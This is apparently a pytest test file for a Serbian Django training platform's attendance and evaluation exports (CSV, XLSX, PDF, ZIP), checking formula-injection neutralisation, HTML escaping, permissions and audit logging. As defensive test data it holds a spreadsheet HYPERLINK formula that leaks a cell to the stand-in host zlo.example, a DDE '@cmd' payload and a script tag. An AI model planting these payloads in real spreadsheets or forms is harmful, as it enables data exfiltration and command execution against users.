import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from events.models import ChamberExportLog
from lms.spreadsheets import cell_safe
from tests.events.eval_helpers import answer, attend, held_training, login
from tests.helpers import sr

INJECTION = '=HYPERLINK("http://zlo.example/?x="&A1,"Кликни")'


@pytest.mark.parametrize(
    "text", ["=1+1", "+381 11", "-2+3", "@SUM(A1)", "\tx", "\rx", INJECTION]
)
def test_text_that_starts_like_a_formula_is_neutralised(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Ана", "ЦСР Ниш", "", 5, 4.5, None, "a=b"])
def test_other_values_are_left_alone(value):
    assert cell_safe(value) == value


@pytest.fixture
def accredited(make_training):
    return held_training(
        make_training,
        accreditation_number="153-02-00042/2025",
        points_passive=3,
        points_active=5,
    )


@pytest.fixture
def attendees(accredited, make_user, staff_user):
    evil = make_user(
        email="zlo@example.org",
        first_name=INJECTION,
        last_name="-Злоћко",
        licence_number="01-2345",
    )
    plain = make_user(email="mila@example.org", first_name="Мила", last_name="Лукић")
    return [
        attend(accredited, evil, staff_user, participation_form="active"),
        attend(accredited, plain, staff_user),
    ]


def download(client, training, kind):
    return client.get(
        reverse("events:chamber_export_download", args=[training.pk, kind])
    )


def test_csv_is_utf8_with_bom_and_neutralised(
    accredited, attendees, staff_user, client
):
    login(client, staff_user)

    response = download(client, accredited, "attendance_csv")

    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = io.StringIO(response.content.decode("utf-8-sig"))
    rows = list(csv.reader(text, delimiter=";"))
    rows = rows[rows.index([]) + 1 :]  # the list, after the training's header
    assert len(rows) == 3
    evil = next(row for row in rows if "01-2345" in row)
    assert evil[0] == "'-Злоћко"
    assert evil[1] == "'" + INJECTION
    assert evil[7] == "5"  # active participant's points
    plain = next(row for row in rows if "Мила" in row)
    assert plain[7] == ""  # no licence, no points


def test_xlsx_cells_are_text_not_formulas(accredited, attendees, staff_user, client):
    login(client, staff_user)

    response = download(client, accredited, "attendance_xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    names = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + INJECTION in names and "'-Злоћко" in names


def test_evaluations_xlsx_has_summary_and_anonymous_answers(
    accredited, make_user, staff_user, client, settings
):
    settings.EVALUATION_MIN_ANSWERS = 2
    for i in range(2):
        person = make_user(email=f"p{i}@example.org")
        answer(
            attend(accredited, person, staff_user), rating=4, liked="@cmd|' /C calc'!A0"
        )
    login(client, staff_user)

    response = download(client, accredited, "evaluations_xlsx")

    workbook = load_workbook(io.BytesIO(response.content))
    summary, answers = workbook.worksheets
    summary_rows = {row[0]: row[1:] for row in summary.iter_rows(values_only=True)}
    assert summary_rows[sr("Average rating")][0] == 4.0
    rows = list(answers.iter_rows(values_only=True))
    assert len(rows) == 3
    assert rows[1][:5] == (4, 4, 4, 4, 4)
    assert rows[1][5] == "'@cmd|' /C calc'!A0"
    assert "p0@example.org" not in str(rows)


def test_zip_contains_every_file_and_the_log_is_written(
    accredited, attendees, staff_user, client
):
    login(client, staff_user)

    response = download(client, accredited, "package_zip")

    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = archive.namelist()
    assert all(info.external_attr >> 16 == 0o644 for info in archive.infolist())
    assert len(names) == 4
    assert {Path(n).suffix for n in names} == {".xlsx", ".csv", ".pdf"}
    assert archive.read(next(n for n in names if n.endswith(".pdf"))).startswith(
        b"%PDF"
    )
    log = ChamberExportLog.objects.get()
    assert (log.user, log.kind, log.training) == (staff_user, "package_zip", accredited)


def test_pdf_report_renders_with_cyrillic(accredited, attendees, staff_user, client):
    login(client, staff_user)

    response = download(client, accredited, "report_pdf")

    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    from pypdf import PdfReader

    text = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    assert "153-02-00042/2025" in text and "Лукић" in text


def test_report_html_is_escaped_and_in_serbian(accredited, attendees):
    from django.template.loader import render_to_string

    from events.evaluations.results import training_results
    from events.exports.attendance import attendance_counts, attendance_rows

    accredited.title = "<script>alert(1)</script> Обука"
    rows = attendance_rows(training=accredited)
    html = render_to_string(
        "events/chamber_report.html",
        {
            "training": accredited,
            "rows": rows,
            "counts": attendance_counts(rows),
            "results": training_results(training=accredited),
        },
    )
    assert '<html lang="sr">' in html
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "Лукић" in html


def test_permissions(
    accredited, make_training, attendees, participant, trainer, chamber_user, client
):
    plain = held_training(make_training)
    url = reverse("events:chamber_export", args=[accredited.pk])

    login(client, participant)
    assert client.get(url).status_code == 403
    assert download(client, accredited, "package_zip").status_code == 403
    login(client, trainer)
    assert client.get(url).status_code == 403
    login(client, chamber_user)
    assert client.get(url).status_code == 200
    assert client.get(reverse("events:chamber_export_index")).status_code == 200
    assert download(client, accredited, "attendance_csv").status_code == 200
    assert download(client, plain, "attendance_csv").status_code == 404
    assert (
        client.get(
            reverse("events:evaluation_results", args=[accredited.pk])
        ).status_code
        == 403
    )
    assert ChamberExportLog.objects.get().user == chamber_user


def test_command_writes_the_package(accredited, attendees, tmp_path):
    out = io.StringIO()

    call_command("chamber_export", accredited.slug, "--out", str(tmp_path), stdout=out)

    path = Path(out.getvalue().strip())
    assert path.parent == tmp_path and path.suffix == ".zip"
    assert len(zipfile.ZipFile(path).namelist()) == 4
    assert ChamberExportLog.objects.get().via == "command"


@pytest.mark.parametrize("count", [5, 50])
def test_export_queries_do_not_grow_with_participants(
    accredited, make_user, staff_user, client, count, django_assert_max_num_queries
):
    for i in range(count):
        person = make_user(email=f"p{i}@example.org", licence_number=f"1-{i:04d}")
        registration = attend(accredited, person, staff_user)
        if i < 5:
            answer(registration)
    login(client, staff_user)

    with django_assert_max_num_queries(16):
        response = download(client, accredited, "package_zip")

    assert response.status_code == 200
